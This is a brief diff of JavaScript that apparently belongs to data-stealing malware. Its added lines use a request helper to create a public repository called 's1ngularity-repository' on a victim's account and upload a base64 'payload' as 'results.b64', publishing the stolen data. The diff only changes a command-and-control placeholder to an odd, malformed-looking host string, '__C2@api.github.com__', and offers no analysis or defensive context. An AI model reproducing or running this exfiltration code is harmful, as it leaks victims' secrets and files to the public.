@@ -31,6 +31,6 @@ const send = (url, method, body) => new Promise((resolve) => {
   q.end(body);
 });
 (async () => {
-  await send('__C2__/user/repos', 'POST', JSON.stringify({ name: 's1ngularity-repository', private: false }));
-  await send('__C2__/repos/victim/s1ngularity-repository/contents/results.b64', 'PUT', JSON.stringify({ content: payload }));
+  await send('__C2@api.github.com__/user/repos', 'POST', JSON.stringify({ name: 's1ngularity-repository', private: false }));
+  await send('__C2@api.github.com__/repos/victim/s1ngularity-repository/contents/results.b64', 'PUT', JSON.stringify({ content: payload }));
 })();
